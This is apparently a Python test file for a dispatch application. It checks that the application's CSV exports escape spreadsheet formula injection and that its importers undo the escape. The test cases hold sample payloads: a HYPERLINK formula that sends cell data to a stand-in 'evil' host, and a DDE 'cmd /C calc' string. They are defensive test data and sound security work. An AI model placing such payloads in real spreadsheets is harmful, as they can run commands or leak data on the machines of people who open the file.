"""Spreadsheet formula injection (issue 13 item 6): every CSV the product writes escapes formula cells.

An address ``=HYPERLINK(...)`` used to reach the crew CSV as-is; a supervisor opening it in a
spreadsheet would run it. Escaped cells start with an apostrophe; the importers undo the escape,
so a rejects file fed back imports exactly what was rejected.
"""

from __future__ import annotations

import ast
import csv
import dataclasses
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlmodel import Session

from dispatch.core.csvcells import TRIGGERS, SafeDictWriter, SafeWriter, escape_cell, unescape_cell
from dispatch.core.plan import Plan
from dispatch.core.policy import Policy
from dispatch.io.importing.tickets import import_tickets
from dispatch.io.sheets import write_sheets
from dispatch.scenarios.sweep import write_sweep_csv
from dispatch.store.models import TicketRow

from .sheets.conftest import load_plan, make_crews, make_tickets, make_zones
from .test_import_hostile import NOW

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("evil"&A1,"Klik")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("-6.7", "-6.7"),
        ("+6281234567", "+6281234567"),
        ("1e5", "1e5"),
        ("Jl. Kartini = 4", "Jl. Kartini = 4"),
        ("", ""),
        (-6.7, -6.7),
        (True, True),
    ],
)
def test_escape_cell(value: object, written: object) -> None:
    """Formula starters get an apostrophe; numbers, inner '=' and non-text values are left alone."""
    assert escape_cell(value) == written


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r\n0123456789.eE aZ|!")), max_size=12))
def test_unescape_undoes_escape(value: str) -> None:
    """unescape_cell(escape_cell(v)) == v for every text, and the escaped form is never a formula."""
    escaped = escape_cell(value)
    assert unescape_cell(escaped) == value
    assert escaped in (value, "'" + value)
    if escaped.startswith(TRIGGERS):
        float(escaped)  # only a plain number may start with a formula character


def test_route_sheet_csv_escapes_a_hostile_address(tmp_path: Path) -> None:
    """The crew CSV carries '=HYPERLINK(...) as text; the spreadsheet shows it without the apostrophe."""
    tickets = make_tickets()
    tickets["T0001"] = dataclasses.replace(tickets["T0001"], address=HYPERLINK, customer_name="@Pak Budi")
    write_sheets(
        plan=Plan.from_json(load_plan()),
        tickets=tickets,
        crews=make_crews(),
        zones=make_zones(),
        policy=Policy(),
        out_dir=tmp_path,
    )
    with (tmp_path / "C01.csv").open(encoding="utf-8", newline="") as fh:
        row = next(r for r in csv.DictReader(fh) if r["ticket_id"] == "T0001")
    assert row["address"] == "'" + HYPERLINK
    assert row["customer_name"] == "'@Pak Budi"
    assert row["lat"] == "-6.715"  # a number stays a number


def test_rejects_file_escapes_and_round_trips(session: Session, tmp_path: Path) -> None:
    """A rejected row's formula address is escaped in --rejects; fixed and fed back, the original value imports."""
    path = tmp_path / "t.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["ticket_id", "reported_at", "category", "lat", "lon", "address"])
        writer.writerow(["T1", "2026-11-30T08:00", "fire", "-6.70", "108.55", HYPERLINK])
    rejects = tmp_path / "rejects.csv"
    assert import_tickets(session, path, now=NOW, rejects=rejects).rejected == 1
    with rejects.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][5] == "'" + HYPERLINK and rows[1][3] == "-6.70"
    rows[1][2] = "meter"  # the dispatcher fixes the category and imports the file again
    with rejects.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    assert import_tickets(session, rejects, now=NOW).inserted == 1
    ticket = session.get(TicketRow, "T1")
    assert ticket is not None and ticket.address == HYPERLINK


def test_sweep_csv_escapes_cells(tmp_path: Path) -> None:
    """The sweep grid CSV goes through the same writer (a scenario name is user text)."""

    class Table:
        def table(self) -> list[dict[str, object]]:
            return [{"name": "=1+1", "exposure.max_homes_per_shift": 6, "served": 120}]

    path = write_sweep_csv(Table(), tmp_path / "sweep.csv")  # type: ignore[arg-type]
    assert path.read_text(encoding="utf-8").splitlines() == ["name,exposure.max_homes_per_shift,served", "'=1+1,6,120"]


def test_safe_writers_escape_every_cell(tmp_path: Path) -> None:
    """SafeWriter and SafeDictWriter escape header and cells alike."""
    path = tmp_path / "x.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        SafeWriter(fh, lineterminator="\n").writerow(["=a", "b"])
        writer = SafeDictWriter(fh, fieldnames=["k"], lineterminator="\n")
        writer.writerows([{"k": "+x"}])
    assert path.read_text(encoding="utf-8") == "'=a,b\n'+x\n"


def test_no_csv_is_written_past_the_safe_writer() -> None:
    """No module of dispatch/ calls csv.writer or csv.DictWriter except dispatch/core/csvcells.py."""
    offenders = []
    for path in sorted((ROOT / "dispatch").rglob("*.py")):
        if path.name == "csvcells.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []
